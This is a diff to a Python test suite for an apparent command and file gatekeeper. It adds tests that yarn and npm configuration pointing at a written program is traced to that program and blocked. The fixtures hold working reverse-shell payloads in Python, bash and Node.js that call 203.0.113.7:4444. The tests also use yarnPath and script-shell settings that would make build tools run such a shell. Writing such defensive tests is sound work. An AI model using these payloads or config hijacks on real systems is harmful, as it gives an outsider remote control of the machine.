@@ -24,6 +24,11 @@ REVERSE_SHELL_PY = (
     "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\n"
 )
 REVERSE_SHELL_SH = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+REVERSE_SHELL_JS = (
+    "const s = require('net').connect(4444, '203.0.113.7');\n"
+    "const sh = require('child_process').spawn('/bin/sh', []);\n"
+    "s.pipe(sh.stdin); sh.stdout.pipe(s);\n"
+)
 BENIGN_PY = "import json\nprint(json.dumps({'ok': True}))\n"
 BENIGN_SH = "#!/bin/sh\nset -e\npython3 -m pytest -q\n"
 
@@ -153,7 +158,11 @@ async def test_a_requirements_file_pulls_in_the_builds_it_names(tmp_path: Path) 
         ("setup.cfg", "[mypy]\nplugins = plug:plugin\n", "mypy ."),
         (".coveragerc", "[run]\nplugins = plug\n", "python3 -m coverage report"),
         ("pyproject.toml", '[tool.pylint.main]\nload-plugins = ["plug"]\n', "pylint a.py"),
-        (".flake8", "[flake8:local-plugins]\nextension =\n  X1 = plug:Plugin\npaths = ./\n", "python3 -m flake8"),
+        (
+            ".flake8",
+            "[flake8:local-plugins]\nextension =\n  X1 = plug:Plugin\npaths = ./\n",
+            "python3 -m flake8",
+        ),
     ],
 )
 async def test_a_plugin_named_by_a_tool_s_configuration_is_inherited(
@@ -170,6 +179,34 @@ async def test_a_plugin_named_by_a_tool_s_configuration_is_inherited(
         status, body = await _run(http, gk, token, cmd)
         assert status == 403 and body["capability"] == "net.reverse_shell", body
         assert "/workspace/plug.py" in body["reason"] and plug_id in body["reason"], body["reason"]
+
+
+@pytest.mark.parametrize(
+    ("program", "content", "config", "setting", "cmd"),
+    [
+        ("rev.js", REVERSE_SHELL_JS, ".yarnrc.yml", "yarnPath: ./rev.js\n", "yarn install"),
+        ("rev.js", REVERSE_SHELL_JS, ".yarnrc", 'yarn-path "./rev.js"\n', "yarn test"),
+    ],
+)
+async def test_a_program_named_by_npm_or_yarn_configuration_is_inherited(
+    tmp_path: Path, program: str, content: str, config: str, setting: str, cmd: str
+) -> None:
+    """yarn runs its yarnPath (npm's .npmrc, which holds tokens, is a credential file: not written;
+    the same settings through npm config set are read as the options they are)."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "package.json", json.dumps({"scripts": {"test": "node t.js"}}))
+        program_id = await _write(http, gk, token, program, content)
+        await _write(http, gk, token, config, setting)
+        status, body = await _run(http, gk, token, cmd)
+        assert status in (403, 202) and f"/workspace/{program}" in body["reason"], body
+        assert program_id in body["reason"], body["reason"]
+        status, body, _ = await invoke(
+            http, gk, "file.write", {"path": ".npmrc", "content": "script-shell=./rev.sh\n"}, token
+        )
+        assert status == 403 and body["capability"] == "cred.secret", body
+        status, body = await _run(http, gk, token, "npm config set script-shell ./rev.sh")
+        assert status == 202, body  # held: another shell for every script
 
 
 async def test_benign_written_text_and_imports_flow(tmp_path: Path) -> None:
